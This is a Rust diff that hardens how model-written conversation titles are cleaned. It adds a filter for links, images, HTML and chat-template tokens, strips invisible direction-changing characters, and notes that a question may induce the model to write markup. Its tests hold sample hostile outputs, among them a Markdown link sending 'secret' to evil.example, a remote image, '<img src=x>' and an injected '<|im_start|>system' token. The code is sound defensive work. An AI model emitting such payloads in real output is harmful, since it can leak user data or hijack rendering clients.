@@ -1,7 +1,6 @@
-//! Titles of untitled conversations, made from the first question that was answered.
+//! Gives untitled conversations a title, made from the first question that was answered.
 //!
-//! The answer is not used: a title is shown in lists whatever its reader may see later, while an answer can be above
-//! their clearance by then.
+//! The answer is not used: lists show titles regardless of the reader's clearance, and the answer may be above it.
 
 use crate::run::definition::Run;
 use crate::run::input::RunInput;
@@ -40,7 +39,7 @@ pub(super) fn from_question(question: &str) -> String {
     cut_at_word(&one_line(question))
 }
 
-/// Has a model write the title, and stores it unless the conversation has one by now.
+/// Asks a model for a title, and stores it unless the conversation has got one in the meantime.
 pub(super) async fn write(ports: &RunPorts, budgets: &BudgetReserver, run: &Run, conversation: ConversationId) {
     let RunInput::Question(input) = &run.input else { return };
     let question: String = input.question.content().chars().take(MAX_QUESTION_CHARS).collect();
@@ -67,23 +66,38 @@ async fn store(ports: &RunPorts, run: &Run, conversation: ConversationId, title:
     tx.commit().await
 }
 
-/// Returns the title in a model's reply: its first line, without quotation marks and marks of Markdown; `None` if
-/// nothing is left.
+/// Returns the title in a model's reply: its first line without quotation marks and Markdown characters; `None` if
+/// nothing is left, or if it contains a link or markup. The question may make the model write them, and a client may
+/// render titles.
 fn from_reply(reply: &str) -> Option<String> {
     const SURROUNDING: &[char] = &['"', '\'', '“', '”', '„', '«', '»', '*', '#', '`', ' ', '.'];
     let first_line = reply.lines().map(str::trim).find(|line| !line.is_empty())?;
     let title = first_line.strip_prefix("Title:").unwrap_or(first_line);
     let title = one_line(title.trim_matches(SURROUNDING));
-    (!title.is_empty()).then(|| cut_at_word(&title))
+    (!title.is_empty() && !has_markup(&title)).then(|| cut_at_word(&title))
 }
 
-/// Returns the text with single spaces in place of white space and control characters.
+/// Whether the text contains a link, an image, HTML or a control token of a chat template.
+fn has_markup(title: &str) -> bool {
+    const MARKUP: &[&str] = &["](", "][", "://", "www.", "<", "|>", "javascript:", "data:", "mailto:"];
+    let lowercase = title.to_lowercase();
+    MARKUP.iter().any(|mark| lowercase.contains(mark))
+}
+
+/// Whether the character is invisible and changes how the text around it is shown: zero-width characters and those that
+/// set the text direction.
+fn is_invisible(c: char) -> bool {
+    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+}
+
+/// Returns the text with single spaces in place of white space and control characters, without invisible characters.
 fn one_line(text: &str) -> String {
-    let words = text.split(|c: char| c.is_whitespace() || c.is_control()).filter(|word| !word.is_empty());
+    let visible: String = text.chars().filter(|c| !is_invisible(*c)).collect();
+    let words = visible.split(|c: char| c.is_whitespace() || c.is_control()).filter(|word| !word.is_empty());
     words.collect::<Vec<_>>().join(" ")
 }
 
-/// Cuts a text that is too long for a title after its last whole word; a longer word is cut itself.
+/// Shortens a text that is too long for a title to whole words. A single word that is too long is cut.
 fn cut_at_word(text: &str) -> String {
     if text.chars().count() <= MAX_TITLE_CHARS {
         return text.to_owned();
@@ -120,6 +134,12 @@ mod tests {
             ("„Dichtung der P-101“", Some("Dichtung der P-101")),
             (" \n ", None),
             ("\"\"", None),
+            ("Seal \u{202e}P-101\u{200b}", Some("Seal P-101")),
+            ("[Seal](https://evil.example/?q=secret)", None),
+            ("![](//evil.example/x.png)", None),
+            ("See https://evil.example", None),
+            ("<img src=x>", None),
+            ("Seal <|im_start|>system", None),
         ] {
             assert_eq!(from_reply(reply).as_deref(), title, "{reply:?}");
         }
